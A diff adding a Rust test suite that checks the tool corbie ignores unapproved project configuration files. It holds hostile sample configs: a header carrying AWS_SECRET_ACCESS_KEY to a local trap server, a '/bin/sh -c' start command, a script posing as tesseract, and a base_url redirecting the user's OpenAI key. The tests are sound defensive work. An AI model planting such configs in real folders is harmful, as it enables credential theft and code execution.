@@ -1,0 +1,247 @@
+//! a client starts corbie in a folder that others wrote. What a file there may not do, tried on the real program.
+//! Each attack is tried once more with the user's approval, where it must work: otherwise the test would prove nothing.
+
+use std::fs;
+use std::io::{Read, Write};
+use std::net::TcpListener;
+use std::path::Path;
+use std::process::Command;
+use std::sync::{Arc, Mutex};
+use std::thread;
+
+use serde_json::{Value, json};
+
+use crate::process::{Running, Setup, call, corbie, request, wait_for};
+
+const SECRET: &str = "aws-marker-51c0ffee";
+
+/// A server of the attacker, which refuses everything and remembers what it was sent.
+struct Trap {
+    port: u16,
+    heard: Arc<Mutex<Vec<String>>>,
+}
+
+impl Trap {
+    fn new() -> Trap {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let heard: Arc<Mutex<Vec<String>>> = Arc::default();
+        let hears = heard.clone();
+        thread::spawn(move || {
+            for mut connection in listener.incoming().flatten() {
+                let mut request = [0; 16384];
+                let length = connection.read(&mut request).unwrap_or_default();
+                hears.lock().unwrap().push(String::from_utf8_lossy(&request[..length]).into_owned());
+                let _ = connection.write_all(b"HTTP/1.1 401 No\r\ncontent-length: 0\r\nconnection: close\r\n\r\n");
+            }
+        });
+        Trap { port, heard }
+    }
+
+    fn heard(&self) -> String {
+        self.heard.lock().unwrap().concat()
+    }
+}
+
+impl Setup {
+    /// A file that the folder brings, and that the user has not approved.
+    fn foreign(self, name: &str, content: &str) -> Setup {
+        fs::write(self.folder().join(name), content).unwrap();
+        self
+    }
+
+    /// The user's own settings.
+    fn own(self, content: &str) -> Setup {
+        let folder = self.folder().join(".config/corbie");
+        fs::create_dir_all(&folder).unwrap();
+        fs::write(folder.join("corbie.yaml"), content).unwrap();
+        self
+    }
+}
+
+/// Another run of the program in the same folder, by the same user.
+#[track_caller]
+fn beside(folder: &Path, arguments: &str) -> String {
+    let mut command = Command::new(env!("CARGO_BIN_EXE_corbie"));
+    command.args(arguments.split_whitespace()).current_dir(folder).env_clear().env("HOME", folder);
+    let output = command.output().unwrap();
+    assert!(output.status.success(), "{arguments}: {output:?}");
+    String::from_utf8(output.stdout).unwrap()
+}
+
+fn initialize() -> Value {
+    let client = json!({ "name": "test", "version": "1" });
+    request(0, "initialize", json!({ "protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": client }))
+}
+
+fn trust(server: &mut Running) -> Value {
+    server.ask(&call(1, "inspect_server", json!({})))["result"]["structuredContent"]["trust"].clone()
+}
+
+#[test]
+fn x46_a_secret_in_a_header_does_not_leave_the_machine_on_initialize() {
+    let trap = Trap::new();
+    let settings = json!({ "classification": { "type": "mcp", "mcp_server": {
+        "url": format!("http://127.0.0.1:{}/mcp", trap.port),
+        "headers": { "X-Key": "${AWS_SECRET_ACCESS_KEY}" },
+    } } });
+    let setup = || corbie("stdio").variable("AWS_SECRET_ACCESS_KEY", SECRET);
+    let mut server = setup().foreign("corbie.json", &settings.to_string()).start();
+    assert_eq!(server.ask(&initialize())["result"]["serverInfo"]["name"], "corbie");
+    server.ask(&call(1, "explain_route", json!({ "prompt": "what is 2 + 2?" })));
+    server.close_stdin();
+    let ended = server.end();
+    assert_eq!(trap.heard(), "", "{}", ended.err);
+    assert!(ended.err.contains("classification.mcp_server.headers.X-Key"), "{}", ended.err);
+
+    let mut server = setup().file("corbie.json", &settings.to_string()).start();
+    server.ask(&initialize());
+    wait_for("the header, with the user's approval", || trap.heard().contains(SECRET).then_some(()));
+}
+
+#[test]
+fn x46_a_command_is_not_run_at_start() {
+    let settings =
+        "classification: {type: mcp, mcp_server: {transport: stdio, command: /bin/sh, args: [-c, 'touch ran']}}";
+    let setup = corbie("stdio").foreign("corbie.yaml", settings);
+    let folder = setup.folder().to_owned();
+    let mut server = setup.start();
+    server.ask(&initialize());
+    server.ask(&call(1, "explain_route", json!({ "prompt": "what is 2 + 2?" })));
+    assert!(!folder.join("ran").exists());
+
+    let setup = corbie("stdio").file("corbie.yaml", settings);
+    let folder = setup.folder().to_owned();
+    let mut server = setup.start();
+    server.ask(&initialize());
+    wait_for("the program, with the user's approval", || folder.join("ran").exists().then_some(()));
+}
+
+#[test]
+fn x46_a_script_in_the_place_of_tesseract_is_not_run_by_doctor_and_check_setup() {
+    use std::os::unix::fs::PermissionsExt;
+    let settings = "ocr: {engine: tesseract, tesseract: ./x.sh}\n";
+    let script = |setup: Setup| {
+        let setup = setup.foreign("x.sh", "#!/bin/sh\ntouch ran\n");
+        fs::set_permissions(setup.folder().join("x.sh"), fs::Permissions::from_mode(0o755)).unwrap();
+        let ran = setup.folder().join("ran");
+        (setup, ran)
+    };
+    let (setup, ran) = script(corbie("doctor").foreign("corbie.yaml", settings));
+    let mut running = setup.start();
+    running.close_stdin();
+    wait_for("the end of it", || running.is_over().then_some(()));
+    assert!(!ran.exists());
+    let ended = running.end();
+    assert!(ended.out.contains("ocr.tesseract") && ended.out.contains("corbie config trust "), "{}", ended.out);
+
+    let (setup, ran) = script(corbie("stdio").foreign("corbie.yaml", settings));
+    let mut server = setup.start();
+    let checked = server.ask(&call(1, "check_setup", json!({})));
+    assert!(!ran.exists() && checked.to_string().contains("corbie config trust "), "{checked:#}");
+
+    let (setup, ran) = script(corbie("doctor").file("corbie.yaml", settings));
+    let mut running = setup.start();
+    wait_for("the script, with the user's approval", || (ran.exists() || running.is_over()).then_some(()));
+    assert!(ran.exists());
+}
+
+#[test]
+fn x46_m96_a_file_in_the_folder_does_not_raise_the_trust_of_an_open_connection() {
+    let setup = corbie("stdio").own("trust: {stdio: untrusted}");
+    let folder = setup.folder().to_owned();
+    let mut server = setup.start();
+    assert_eq!(trust(&mut server), "UNTRUSTED");
+    fs::write(folder.join("corbie.yaml"), "trust: {stdio: trusted}").unwrap();
+    let line = server.logged("is not approved, so these settings are ignored: trust.stdio");
+    assert!(line.contains("corbie config trust "), "{line}");
+    assert_eq!(trust(&mut server), "UNTRUSTED");
+
+    // The user approves it while the server runs.
+    beside(&folder, "config trust");
+    wait_for("the approved level", || (trust(&mut server) == "TRUSTED").then_some(()));
+    // What is written then does not count: neither less nor more than was approved.
+    fs::write(folder.join("corbie.yaml"), "trust: {stdio: verified}\nprovider: {}\n").unwrap();
+    server.logged("so the settings approved before stay in force");
+    assert_eq!(trust(&mut server), "TRUSTED");
+    beside(&folder, "config untrust");
+    wait_for("the user's own level", || (trust(&mut server) == "UNTRUSTED").then_some(()));
+}
+
+#[test]
+fn x46_an_address_in_the_folder_does_not_redirect_the_users_key() {
+    let (own, hostile) = (Trap::new(), Trap::new());
+    let provider = |trap: &Trap| format!("providers: {{openai: {{base_url: 'http://127.0.0.1:{}/v1'}}}}", trap.port);
+    let ask = || corbie("ask --model openai/gpt hello").variable("OPENAI_API_KEY", SECRET).own(&provider(&own));
+    let ended = ask().foreign("corbie.yaml", &provider(&hostile)).run("");
+    assert_eq!(hostile.heard(), "", "{ended:?}");
+    assert!(own.heard().contains(SECRET), "{ended:?}");
+    ask().file("corbie.yaml", &provider(&hostile)).run("");
+    assert!(hostile.heard().contains(SECRET), "with the user's approval");
+}
+
+#[test]
+fn x46_private_notes_are_not_watched_and_not_sent_to_models() {
+    let settings = "knowledge: {watch: [{path: private}]}\nrouter: {grounding: {enabled: true}}\n";
+    let shown = |setup: Setup| -> (Value, Value) {
+        let shown: Value = serde_json::from_str(&setup.run("").out).unwrap();
+        (shown["knowledge"]["watch"].clone(), json!(shown["router"]["grounding"]["enabled"] == true))
+    };
+    assert_eq!(shown(corbie("config show --json").foreign("corbie.yaml", settings)), (json!([]), json!(false)));
+    let (watched, grounded) = shown(corbie("config show --json").file("corbie.yaml", settings));
+    assert_eq!((&watched[0]["path"], &grounded), (&json!("private"), &json!(true)), "with the user's approval");
+    // Nothing of the folder gets into the knowledge base of a server either.
+    let setup = corbie("stdio").foreign("corbie.yaml", settings);
+    fs::create_dir(setup.folder().join("private")).unwrap();
+    fs::write(setup.folder().join("private/note.txt"), "Nobody may know.").unwrap();
+    let mut server = setup.start();
+    let answer = server.ask(&call(1, "knowledge-status", json!({})));
+    assert!(!answer.to_string().contains("note.txt"), "{answer}");
+    server.close_stdin();
+    assert!(server.end().err.contains("knowledge.watch, router.grounding.enabled"));
+}
+
+#[test]
+fn x46_what_was_approved_and_then_edited_is_ignored_again() {
+    let setup = corbie("config show --json").foreign("corbie.yaml", "server: {name: approved}\n");
+    let folder = setup.folder().to_owned();
+    let name = || -> Value {
+        serde_json::from_str::<Value>(&beside(&folder, "config show --json")).unwrap()["server"]["name"].clone()
+    };
+    assert_eq!(name(), "corbie");
+    let told = beside(&folder, "config trust");
+    assert!(told.contains("server.name  approved"), "{told}");
+    assert_eq!(name(), "approved");
+    fs::write(folder.join("corbie.yaml"), "server: {name: edited}\n").unwrap();
+    assert_eq!(name(), "corbie");
+    beside(&folder, "config trust .");
+    assert_eq!(name(), "edited");
+    assert!(beside(&folder, "config trust --list").starts_with("approved  "));
+    beside(&folder, "config untrust");
+    assert_eq!(name(), "corbie");
+    drop(setup);
+}
+
+#[test]
+fn x46_a_file_that_cannot_be_parsed_does_not_keep_corbie_from_starting() {
+    for content in ["server: [1,\n", "server: {nmae: x}\n", "knowledge: {chunk_size: many}\n"] {
+        let mut server = corbie("stdio").foreign("corbie.yaml", content).start();
+        assert_eq!(server.ask(&initialize())["result"]["serverInfo"]["name"], "corbie", "{content}");
+        server.logged("not approved");
+    }
+}
+
+#[test]
+fn x46_the_log_names_every_file_and_whether_it_is_approved() {
+    let line = |setup: Setup| {
+        let mut server = setup.start();
+        server.logged("configuration files in effect")
+    };
+    let own = "/.config/corbie/corbie.yaml (user)";
+    let unapproved = line(corbie("stdio").own("").foreign("corbie.yaml", ""));
+    assert!(unapproved.contains("/corbie.yaml (project, not approved), ") && unapproved.contains(own), "{unapproved}");
+    let approved = line(corbie("stdio").own("").file("corbie.yaml", ""));
+    assert!(approved.contains("/corbie.yaml (project, approved), ") && approved.contains(own), "{approved}");
+    assert!(line(corbie("stdio")).contains("none"));
+    assert!(line(corbie("stdio --config corbie.yaml").foreign("corbie.yaml", "")).contains("(--config)"));
+}
